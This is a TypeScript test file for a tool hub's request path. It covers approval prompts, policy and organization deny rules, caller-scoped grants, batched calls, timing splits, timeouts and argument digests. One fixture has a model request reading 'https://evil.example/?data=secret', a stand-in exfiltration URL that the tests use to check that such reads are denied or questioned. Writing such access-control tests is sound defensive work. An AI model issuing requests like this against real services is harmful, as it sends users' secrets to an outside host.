import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import type { ApprovalAnswer, Grants } from "../../../src/core/calls/approval/grants";
import type { OrganizationPolicy } from "../../../src/core/calls/approval/organization";
import { requestPath } from "../../../src/core/calls/requestPath";
import type { Requests, ServerAsk } from "../../../src/core/calls/requests";
import type { ServerAccess } from "../../../src/core/calls/serverAccess";
import { newCall } from "../../../src/core/calls/toolCall";
import { emptyCatalog } from "../../../src/core/catalog/catalog";
import type { Policy } from "../../../src/core/config/schema/policyRules";
import { defaultOptions, type Options } from "../../../src/core/config/schema/settings";
import { neverAborted } from "../../../src/core/kernel/abortSignals";
import { HubError } from "../../../src/core/kernel/hubError";
import type { HubEvent, RequestMethod } from "../../../src/protocol/hubEvent";
import { aDesk } from "../../support/aDesk";
import { done, fakeGrants, fakeServers, turns } from "../../support/callFixture";
import { FakeClock } from "../../support/fakeClock";
import { aTool, definition } from "../../support/fakeLink";

interface Setting {
  readonly options?: Partial<Options>;
  readonly answer?: ApprovalAnswer | (() => Promise<ApprovalAnswer>);
  readonly servers?: Partial<ServerAccess>;
  readonly grants?: Partial<Grants>;
  readonly organization?: readonly OrganizationPolicy[];
}

function setUp({ options, answer = { allow: false }, servers, grants, organization = [] }: Setting = {}) {
  const events: HubEvent[] = [];
  const asked: string[] = [];
  const reached: string[] = [];
  const clock = new FakeClock();
  const desk = aDesk(clock);
  const requests = requestPath({
    servers: fakeServers({
      catalog: () => ({ ...emptyCatalog, resources: [{ uri: "file:///listed", name: "listed" }] }),
      callTool: async ({ tool }) => {
        reached.push(`call ${tool}`);
        return done;
      },
      readResource: async (_, uri) => {
        reached.push(`read ${uri}`);
        return [{ uri, text: "held" }];
      },
      getPrompt: async (_, name) => {
        reached.push(`prompt ${name}`);
        return [{ role: "user", content: { type: "text", text: name } }];
      },
      complete: async (_, { argument }) => {
        reached.push(`complete ${argument}`);
        return ["a"];
      },
      skills: async () => {
        reached.push("skills");
        return [];
      },
      ...servers,
    }),
    options: () => ({ ...defaultOptions, ...options }),
    grants: fakeGrants(grants),
    organization: () => organization,
    ask: async ({ tool }) => {
      asked.push(tool);
      return typeof answer === "function" ? answer() : answer;
    },
    desk,
    clock,
    publish: (event) => events.push(event),
  });
  return { requests, events, asked, reached, clock, desk };
}

const byModel = { server: "files", caller: { door: "agent" }, signal: neverAborted } as const;
const byHand = { server: "files", caller: { door: "command" }, byHand: true, signal: neverAborted } as const;

/** Every kind of request, as a door asks for it. */
const kinds: readonly [RequestMethod, (requests: Requests, ask: ServerAsk) => Promise<unknown>][] = [
  ["tools/call", ({ callTool }, ask) => callTool(newCall({ ...ask, tool: "delete", args: {} }))],
  ["resources/read", ({ readResource }, ask) => readResource({ ...ask, uri: "https://evil.example/?data=secret" })],
  ["prompts/get", ({ getPrompt }, ask) => getPrompt({ ...ask, name: "greet", args: { to: "you" } })],
  [
    "completion/complete",
    ({ complete }, ask) =>
      complete({ ...ask, of: { of: { prompt: "greet" }, argument: "to", value: "y", others: {} } }),
  ],
  ["skills/list", ({ skills }, ask) => skills(ask)],
];

describe("the path of every request", () => {
  for (const [method, send] of kinds) {
    it(`reports ${method} from its start to its end, each event by itself`, async () => {
      const { requests, events } = setUp({ options: { approval: "never" } });
      const client = { id: "cursor", name: "Cursor" };
      await send(requests, { ...byModel, caller: { door: "module", client } });
      const calls = events.filter((event) => event.type === "call.started" || event.type === "call.ended");
      assert.deepEqual(
        calls.map(({ type }) => type),
        ["call.started", "call.ended"],
      );
      for (const event of calls) {
        const { server, tool, caller, argsDigest } = event;
        assert.deepEqual([server, event.method, caller], ["files", method, { door: "module", client }]);
        assert.equal(tool, method === "tools/call" ? "delete" : method);
        assert.match(argsDigest, /^[0-9a-f]{32}$/);
      }
      assert.equal(new Set(calls.map(({ call }) => call)).size, 1);
    });

    it(`lets nothing of ${method} through that the policy denies, by hand or not`, async () => {
      const { requests, asked, reached, events } = setUp({ options: { policy: { "files/*": "deny" } } });
      for (const ask of [byModel, byHand])
        await assert.rejects(send(requests, ask), { code: "denied", message: /mcpHub\.policy forbids it/ });
      assert.deepEqual([asked, reached], [[], []]);
      const ends = events.flatMap((event) => (event.type === "call.ended" ? [[event.outcome, event.decision]] : []));
      const refused = ["denied", { by: "policy", source: "user", rule: "files/*" }];
      assert.deepEqual(ends, [refused, refused]);
    });

    it(`takes what a person does by hand as the consent to ${method}`, async () => {
      const { requests, asked, reached, events } = setUp();
      await send(requests, byHand);
      assert.deepEqual([asked.length, reached.length], [0, 1]);
      const end = events.at(-1);
      assert.ok(end?.type === "call.ended");
      assert.deepEqual(end.decision, { by: "person" });
    });
  }

  it("sends several calls as one where the entry says so, each with its own approval and events; a rule may keep the batch form out", async () => {
    const reachedWith = async (policy: Policy) => {
      const sent: [string, unknown][] = [];
      const config = { command: "files", batch: ["delete"] };
      const tools = [aTool("delete"), aTool("batch_delete")];
      const { requests, events, clock } = setUp({
        options: { approval: "never", policy },
        servers: {
          definition: (id) => definition(id, { entry: { kind: "valid", config } }),
          toolNow: (_, wanted) => tools.find(({ name }) => name === wanted),
          callTool: async ({ tool, args }) => {
            sent.push([tool, args]);
            return { ...done, structured: { results: [{ of: 1 }, { of: 2 }] } };
          },
        },
      });
      const calls = [1, 2].map((id) => requests.callTool(newCall({ ...byModel, tool: "delete", args: { id } })));
      await turns();
      clock.pass(100);
      const answers = await Promise.allSettled(calls);
      const ends = events.flatMap((event) => (event.type === "call.ended" ? [[event.tool, event.outcome]] : []));
      const structured = answers.map((one) => one.status === "fulfilled" && one.value.structured);
      return { sent, ends, structured };
    };
    const together = await reachedWith([]);
    assert.deepEqual(together.sent, [["batch_delete", { batch_requests: [{ id: 1 }, { id: 2 }] }]]);
    assert.deepEqual(together.structured, [{ of: 1 }, { of: 2 }]);
    assert.deepEqual(together.ends, [
      ["delete", "ok"],
      ["delete", "ok"],
    ]);
    for (const verdict of ["deny", "ask"] as const) {
      const { sent } = await reachedWith({ "files/batch_*": verdict });
      assert.deepEqual(sent, [
        ["delete", { id: 1 }],
        ["delete", { id: 2 }],
      ]);
    }
    const { sent } = await reachedWith([{ do: "deny", tool: "delete", args: { id: "2" } }]);
    assert.deepEqual(sent, [["delete", { id: 1 }]]);
  });

  it("says in the events which rule wanted the question, and keeps nothing where an organization wants it each time", async () => {
    const kept: string[] = [];
    const grants = { grant: async ({ tool }: { tool: string }) => void kept.push(tool) };
    const answer = { allow: true, span: "always", what: "tool" } as const;
    const decisions = async (setting: Setting) => {
      const { requests, events } = setUp({ ...setting, answer, grants });
      await requests.callTool(newCall({ ...byModel, tool: "delete", args: {} }));
      return events.flatMap((event) => (event.type === "call.ended" ? [event.decision] : []));
    };
    const policy: Policy = [{ do: "ask" }];
    const organization = [{ kind: "rules", file: "/etc/p.json", policy }] as const;
    assert.deepEqual(await decisions({ organization }), [{ by: "question", source: "organization", rule: "rule 1" }]);
    assert.deepEqual(kept, []);
    assert.deepEqual(await decisions({ options: { policy } }), [{ by: "question", source: "user", rule: "rule 1" }]);
    assert.deepEqual(kept, ["delete"]);
  });

  it("looks at the arguments of every kind of request", async () => {
    for (const [method, send] of kinds) {
      const { requests, reached } = setUp({
        options: { approval: "never", policy: [{ do: "deny", method, args: { "*": "*" } }] },
      });
      if (method === "tools/call" || method === "skills/list")
        await send(requests, byModel); // without arguments
      else await assert.rejects(send(requests, byModel), { message: /rule 1 of your setting/ });
      assert.equal(reached.length, method === "tools/call" || method === "skills/list" ? 1 : 0, method);
    }
  });

  it("does not take a rule that allows a method for a tool of that name", async () => {
    const { requests, asked } = setUp({ options: { policy: { "files/resources/read": "allow" } } });
    await requests.readResource({ ...byModel, uri: "file:///other" });
    assert.deepEqual(asked, []);
    await assert.rejects(requests.callTool(newCall({ ...byModel, tool: "resources/read", args: {} })), {
      code: "denied",
    });
    assert.deepEqual(asked, ["resources/read"]);
  });

  const askedFor: readonly RequestMethod[] = ["tools/call", "resources/read", "prompts/get"];
  for (const [method, send] of kinds)
    it(`${askedFor.includes(method) ? "asks" : "does not ask"} a person before ${method} of a model`, async () => {
      const asks = askedFor.includes(method);
      const refused = setUp();
      if (asks) await assert.rejects(send(refused.requests, byModel), { code: "denied", message: /you declined/ });
      else await send(refused.requests, byModel);
      assert.deepEqual([refused.asked.length, refused.reached.length], asks ? [1, 0] : [0, 1]);
      if (!asks) return;
      const allowed = setUp({ answer: { allow: true, span: "once", what: "tool" } });
      await send(allowed.requests, byModel);
      assert.equal(allowed.reached.length, 1);
      const end = allowed.events.at(-1);
      assert.deepEqual(end?.type === "call.ended" && end.decision, { by: "question" });
    });

  it("says where nobody can be asked, and which setting or rule asks", async () => {
    const nobody = setUp({ answer: { allow: false, unasked: true } });
    const { callTool } = nobody.requests;
    const call = () => newCall({ ...byModel, tool: "read", args: {} });
    await assert.rejects(callTool(call()), { code: "denied", unasked: true, message: /mcpHub\.approval/ });
    assert.deepEqual([nobody.asked.length, nobody.reached.length], [1, 0]);
    const ruled = setUp({ answer: { allow: false, unasked: true }, options: { policy: { "files/read": "ask" } } });
    await assert.rejects(ruled.requests.callTool(call()), { unasked: true, message: /"files\/read" of your setting/ });
    await assert.rejects(setUp().requests.callTool(call()), { unasked: undefined, message: /you declined/ });
  });

  it("lets a model read what the server itself lists, without a question", async () => {
    const { requests, asked, events } = setUp();
    assert.deepEqual(await requests.readResource({ ...byModel, uri: "file:///listed" }), [
      { uri: "file:///listed", text: "held" },
    ]);
    const end = events.at(-1);
    assert.deepEqual([asked, end?.type === "call.ended" && end.decision], [[], { by: "listed" }]);
  });

  it("keeps a grant to the caller that it was given to", async () => {
    const allowed = new Set<string>();
    const { requests, asked } = setUp({
      answer: { allow: true, span: "session", what: "tool" },
      grants: {
        allows: ({ tool, caller }) => allowed.has(`${caller.door} ${tool}`),
        grant: async ({ tool, caller }) => void allowed.add(`${caller.door} ${tool}`),
      },
    });
    const call = (door: "chat" | "agent") =>
      requests.callTool(newCall({ ...byModel, caller: { door }, tool: "read", args: {} }));
    for (const door of ["chat", "chat", "agent", "agent"] as const) await call(door);
    assert.equal(asked.length, 2);
  });

  it("does not count the time that a person was asked, and says where the rest went", async () => {
    const setting = setUp({
      answer: async () => {
        setting.clock.pass(16_000);
        return { allow: true, span: "once", what: "tool" };
      },
      servers: {
        callTool: async () => {
          setting.clock.pass(20);
          return done;
        },
      },
    });
    await setting.requests.callTool(newCall({ ...byModel, tool: "echo", args: {} }));
    const end = setting.events.at(-1);
    assert.ok(end?.type === "call.ended");
    assert.deepEqual([end.ms, end.split], [20, { approval: 16_000, queue: 0, waits: 0, server: 20 }]);
  });

  describe("while its server asks the person something", () => {
    /** A question of the server that the person answers after so long. */
    const asks = (setting: ReturnType<typeof setUp>, ms: number, kind: "form" | "input" = "form") =>
      setting.desk.ask({ kind, server: "files", signal: neverAborted, what: "The question" }, async () => {
        setting.clock.pass(ms);
      });
    const endsOf = ({ events }: ReturnType<typeof setUp>) =>
      events.flatMap((event) => (event.type === "call.ended" ? [event] : []));

    it("does not count that time, in the event, the split or the chat", async () => {
      const asked: number[] = [];
      const setting: ReturnType<typeof setUp> = setUp({
        options: { approval: "never" },
        servers: {
          callTool: async () => {
            await asks(setting, 16_000);
            setting.clock.pass(20);
            return done;
          },
        },
      });
      const onAsked = (ms: number) => void asked.push(ms);
      await setting.requests.callTool(newCall({ ...byModel, tool: "echo", args: {}, onAsked }));
      const [end] = endsOf(setting);
      assert.deepEqual([end?.ms, end?.split], [20, { approval: 16_000, queue: 0, waits: 0, server: 20 }]);
      assert.deepEqual(asked, [16_000]);
    });

    it("counts what overlaps once: an approval that waits behind the question", async () => {
      const setting: ReturnType<typeof setUp> = setUp({
        answer: async () => {
          setting.clock.pass(1000);
          return { allow: true, span: "once", what: "tool" };
        },
        servers: {
          callTool: async () => {
            setting.clock.pass(20);
            return done;
          },
        },
      });
      const called = setting.requests.callTool(newCall({ ...byModel, tool: "echo", args: {} }));
      const question = asks(setting, 5000, "input");
      await Promise.all([called, question]);
      const [end] = endsOf(setting);
      assert.deepEqual([end?.ms, end?.split.approval], [20, 6000]);
    });

    it("takes nothing from another call that ends meanwhile", async () => {
      let answer = () => {};
      const setting: ReturnType<typeof setUp> = setUp({
        options: { approval: "never" },
        servers: {
          callTool: async ({ tool }) => {
            if (tool === "quick") setting.clock.pass(30);
            else
              await setting.desk.ask(
                { kind: "form", server: "files", signal: neverAborted, what: "The question" },
                () =>
                  new Promise<void>((resolve) => {
                    answer = resolve;
                  }),
              );
            return done;
          },
        },
      });
      const slow = setting.requests.callTool(newCall({ ...byModel, tool: "slow", args: {} }));
      await new Promise((resolve) => setImmediate(resolve));
      setting.clock.pass(100);
      await setting.requests.callTool(newCall({ ...byModel, tool: "quick", args: {} }));
      answer();
      await slow;
      assert.deepEqual(
        endsOf(setting).map(({ tool, ms }) => [tool, ms]),
        [
          ["quick", 30],
          ["slow", 0],
        ],
      );
    });

    it("does not count the time until a value is entered that the server needs to start, also where it is asked for already", async () => {
      const setting: ReturnType<typeof setUp> = setUp({
        options: { approval: "never" },
        servers: {
          tool: async (_, name) => {
            await question;
            setting.clock.pass(200);
            return aTool(name);
          },
          callTool: async () => {
            setting.clock.pass(20);
            return done;
          },
        },
      });
      let answer = () => {};
      const question = setting.desk.ask(
        { kind: "input", server: "files", signal: neverAborted, what: "The question" },
        () =>
          new Promise<void>((resolve) => {
            answer = resolve;
          }),
      );
      setting.clock.pass(4000);
      const called = setting.requests.callTool(newCall({ ...byModel, tool: "echo", args: {} }));
      setting.clock.pass(3000);
      answer();
      await called;
      const [end] = endsOf(setting);
      assert.deepEqual([end?.ms, end?.split], [220, { approval: 3000, queue: 0, waits: 200, server: 20 }]);
    });
  });

  it("counts the waits between attempts apart from the server's time", async () => {
    let attempts = 0;
    const setting = setUp({
      options: { approval: "never" },
      servers: {
        callTool: async () => {
          setting.clock.pass(5);
          if (++attempts === 1) throw new HubError("transport", "Lost.", { sent: "no", retryAfterMs: 300 });
          return done;
        },
      },
    });
    const called = setting.requests.callTool(newCall({ ...byModel, tool: "echo", args: {} }));
    for (let step = 0; step < 20 && attempts < 2; step++) {
      await new Promise((resolve) => setImmediate(resolve));
      setting.clock.pass(100);
    }
    await called;
    const end = setting.events.at(-1);
    assert.ok(end?.type === "call.ended");
    assert.ok(end.split.waits >= 300 && end.split.server < 300, JSON.stringify(end.split));
    assert.equal(end.split.queue + end.split.waits + end.split.server, end.ms);
  });

  it("ends a read, a prompt and a completion that take too long", async () => {
    const silence = () => new Promise<never>(() => {});
    const setting = setUp({ servers: { readResource: silence, getPrompt: silence, complete: silence } });
    const words = [/^Reading "x:y" from "files" took longer/, /^Getting "greet" from "files"/, /^Completing "to" of/];
    const asks = [
      setting.requests.readResource({ ...byHand, uri: "x:y" }),
      setting.requests.getPrompt({ ...byHand, name: "greet", args: {} }),
      setting.requests.complete({ ...byHand, of: { of: { prompt: "p" }, argument: "to", value: "", others: {} } }),
    ];
    const ended = Promise.all(
      asks.map((ask, index) => assert.rejects(ask, { code: "timeout", message: words[index] })),
    );
    await new Promise((resolve) => setImmediate(resolve));
    setting.clock.pass(defaultOptions.callTimeoutSeconds * 1000);
    await ended;
  });

  it("gives every call an id that no other process gives", () => {
    const ids = Array.from({ length: 3 }, () => newCall({ ...byModel, tool: "a", args: {} }).id);
    assert.equal(new Set(ids).size, 3);
    for (const id of ids) assert.match(id, /^[0-9a-f]{8}-\d+$/);
  });

  it("tells the same arguments by the same digest, and others by another, however long they are", async () => {
    const { requests, events } = setUp({ options: { approval: "never" } });
    const text = "x".repeat(20_000);
    for (const args of [{ a: 1 }, { a: 1 }, { a: 2 }, { text }, { text: `${text}y` }])
      await requests.callTool(newCall({ ...byModel, tool: "a", args }));
    const digests = events.flatMap((event) => (event.type === "call.started" ? [event.argsDigest] : []));
    assert.equal(digests[0], digests[1]);
    assert.equal(digests[0], createHash("sha256").update('{"a":1}').digest("hex").slice(0, 32));
    assert.equal(new Set(digests).size, 4);
  });
});
